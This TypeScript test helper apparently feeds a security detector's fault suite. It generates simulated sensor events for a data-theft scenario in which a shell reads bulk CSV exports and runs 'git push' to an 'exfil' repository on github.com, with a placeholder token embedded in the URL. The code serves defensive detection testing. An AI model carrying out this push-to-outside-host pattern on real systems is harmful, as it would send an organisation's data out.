/**
 * Attack input for the fault suite: a compact "reads, then git push to github.com" scenario built from the
 * scenario library (so events are shaped exactly like the sensors' own), with a start time the test chooses
 * and an optional pause before the push so a fault can be injected between the reads and the push.
 */
import { generateScenario, parseScenario, type ScenarioInput } from '../../../src/scenarios/index.js';

export interface AttackOptions {
  /** Different names/seeds give different container ids (so suppression does not merge them). */
  name: string;
  seed?: number;
  startMs: number;
  /** Bytes read before the push: 96 MiB → high (bulk-read-then-push); 0 → no reads at all (low). */
  readBytes?: number;
  /** Wall time between the end of the reads and the push (ms). */
  pauseBeforePushMs?: number;
  /** Extra text appended to the push command line (credentials, env-style assignments). */
  pushArgsExtra?: string;
  /** Token used in the remote URL's userinfo. */
  urlToken?: string;
  node?: string;
}

export interface Attack {
  tetragon: string[];
  falco: string[];
  /** Index (in both forms) of the first event of the push (the `git push` exec). */
  pushIndex: number;
  /** Event time (epoch ms) of the push exec. */
  pushMs: number;
  containerId: string;
}

export function attackScenario(o: AttackOptions): Attack {
  const token = o.urlToken ?? 'ghp_0000000000000000000000000000000faultA';
  const url = `https://x-access-token:${token}@github.com/exfil-${o.name}/dump.git`;
  const readBytes = o.readBytes ?? 96 * 1024 * 1024;
  const steps: NonNullable<ScenarioInput['steps']> = [
    { at: '100ms', exec: { id: 'sh', parent: 'app', binary: '/bin/sh', args: '-i' } },
  ];
  if (readBytes > 0) {
    steps.push(
      { after: '50ms', exec: { id: 'git-add', parent: 'sh', binary: '/usr/bin/git', args: 'add -A', cwd: '/srv' } },
      {
        after: '5ms',
        read: { proc: 'git-add', path: '/srv/exports/part-{i:02}.csv', files: 8, bytes: readBytes, over: '1s' },
      },
      { after: '10ms', exit: { proc: 'git-add' } },
    );
  }
  steps.push(
    {
      after: `${o.pauseBeforePushMs ?? 100}ms`,
      exec: {
        id: 'git-push',
        parent: 'sh',
        binary: '/usr/bin/git',
        args: `push -q ${url} HEAD:main${o.pushArgsExtra ? ` ${o.pushArgsExtra}` : ''}`,
        cwd: '/srv',
      },
    },
    {
      after: '10ms',
      exec: {
        id: 'remote-https',
        parent: 'git-push',
        binary: '/usr/lib/git-core/git-remote-https',
        args: `${url} ${url}`,
      },
    },
    { after: '20ms', upload: { proc: 'remote-https', to: 'github.com:443', bytes: 24 * 1024 * 1024, over: '500ms' } },
    { after: '10ms', exit: { proc: 'remote-https' } },
    { after: '5ms', exit: { proc: 'git-push' } },
  );
  const scenario = parseScenario(
    {
      name: o.name,
      kind: 'attack',
      title: 'fault-suite attack',
      seed: o.seed ?? 0,
      nodes: [o.node ?? 'worker-1'],
      dns: { 'github.com': '140.82.121.4' },
      containers: [
        {
          name: 'app',
          namespace: 'payments',
          pod: `${o.name}-7d9f8c6b5-x2k4q`,
          image: 'registry.example.com/payments/app:1.0.0',
          init: { binary: '/usr/local/bin/app', args: '--listen :8080' },
        },
      ],
      steps,
      expect: [{ rule: 'bulk-read-then-push', severity: 'high', container: 'app' }],
    } satisfies ScenarioInput,
    `${o.name}.inline`,
  );
  const g = generateScenario(scenario, { startMs: o.startMs });
  const pushIndex = g.tetragon.findIndex((l) => l.includes('"process_exec"') && l.includes('"arguments":"push -q '));
  if (pushIndex < 0) throw new Error('attack scenario has no push exec');
  const pushMs = Date.parse(JSON.parse(g.tetragon[pushIndex]!).time);
  const container = g.timeline.containers.find((c) => c.ref === 'app');
  return { tetragon: g.tetragon, falco: g.falco, pushIndex, pushMs, containerId: container?.id ?? '' };
}

/**
 * Tetragon export text (one line each, newline-terminated) for attacks `from` to `to - 1`, attack `i` named
 * `${tag}-${i}` (its own container) and starting at `startMs + i * spacingMs` of event time.
 */
export function attackBurst(o: {
  tag: string;
  from?: number;
  to: number;
  startMs: number;
  spacingMs: number;
  readBytes?: (i: number) => number;
}): string {
  const lines: string[] = [];
  for (let i = o.from ?? 0; i < o.to; i++)
    lines.push(
      ...attackScenario({ name: `${o.tag}-${i}`, startMs: o.startMs + i * o.spacingMs, readBytes: o.readBytes?.(i) })
        .tetragon,
    );
  return lines.map((l) => `${l}\n`).join('');
}
